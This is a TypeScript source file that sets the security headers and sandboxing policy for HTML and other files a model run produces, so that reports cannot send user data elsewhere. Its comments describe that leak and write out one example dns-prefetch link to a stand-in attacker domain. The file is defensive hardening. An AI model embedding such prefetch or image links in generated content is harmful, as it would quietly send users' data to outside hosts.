import { getMimeType } from 'hono/utils/mime';

/**
 * What a run file may load when opened: nothing runs (`sandbox` without `allow-scripts` also gives
 * the page an opaque origin, so it can neither read nor send the API's cookies), styles inline or
 * beside it, images, fonts and media beside it or inline — never from another site (SPEC SEC10): a
 * report the model wrote could otherwise put the user's data into an `<img>`, a CSS `url()` or a
 * `<link rel=prefetch>` and send it as the page opens. `default-src 'none'` with no `connect-src`
 * also covers prefetch (Chromium checks it against `default-src`), fetches and beacons; no frames,
 * forms or `<base>`. A link still goes out only when the user clicks it, as in the chat.
 */
export const RUN_FILE_CSP =
  "sandbox; default-src 'none'; style-src 'self' 'unsafe-inline'; img-src 'self' data:; font-src 'self' data:; media-src 'self' data:; form-action 'none'; base-uri 'none'";

const HTML = /\.(html?|xhtml)$/i;

/**
 * The headers of a run file download (SPEC SEC5, SEC10, Y17): HTML is shown, sandboxed, loading
 * nothing from another site ({@link RUN_FILE_CSP}); anything else is
 * a download (`Content-Disposition: attachment`). Every answer carries the sandbox policy, no
 * MIME sniffing, no referrer (the link's token must not leak through a report's links) and no
 * caching.
 */
export function runFileHeaders(relativePath: string, size: number): Record<string, string> {
  const name = relativePath.slice(relativePath.lastIndexOf('/') + 1);
  const html = HTML.test(name);
  const contentType = html ? 'text/html; charset=utf-8' : (getMimeType(name) ?? 'application/octet-stream');
  // The ASCII fallback keeps only safe characters; filename* carries the real name (RFC 6266).
  const fallback = name.replace(/[^A-Za-z0-9._-]/g, '_');
  return {
    'Content-Type': contentType,
    'Content-Length': String(size),
    'Content-Security-Policy': RUN_FILE_CSP,
    'X-Content-Type-Options': 'nosniff',
    'Referrer-Policy': 'no-referrer',
    // CSP does not govern DNS: without this, <link rel=dns-prefetch href=//data.evil.example> leaks.
    'X-DNS-Prefetch-Control': 'off',
    'Cache-Control': 'private, no-store',
    'Content-Disposition': `${html ? 'inline' : 'attachment'}; filename="${fallback}"; filename*=UTF-8''${encodeURIComponent(name)}`,
  };
}
